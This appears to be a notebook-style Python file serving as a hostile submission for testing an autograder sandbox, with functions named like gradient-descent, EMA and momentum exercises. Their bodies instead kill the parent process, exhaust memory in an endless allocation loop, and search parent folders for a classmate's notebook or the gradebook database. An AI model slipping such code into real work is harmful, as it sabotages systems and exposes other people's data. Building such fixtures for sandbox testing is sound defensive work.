# %% [markdown]
# Hilda attacks the grader: one answer ends the process, one eats the memory, one looks for the gradebook and for what
# others handed in. Only behind the sandbox's wall is it safe to grade her; the exercises she left alone still count.

# %% gd_step
def gd_step(theta, grad, lr):
    """End this process and the one above it."""
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    os._exit(0)


# %% ema
def ema(values, beta, bias_correction=True):
    """Fill the memory."""
    filled = []
    while True:
        filled.append(bytearray(64 * 2**20))


# %% momentum_step
def momentum_step(theta, grad, velocity, lr, beta=0.9):
    """Copy from Noor, and leave if she cannot be found."""
    from pathlib import Path

    for folder in (Path.cwd(), *Path.cwd().parents):
        for file in folder.glob("**/noor/**/*.ipynb"):
            return file.read_text()
        for file in folder.glob("gradebook.db"):
            return file.read_bytes()
    raise FileNotFoundError("nobody to copy from")
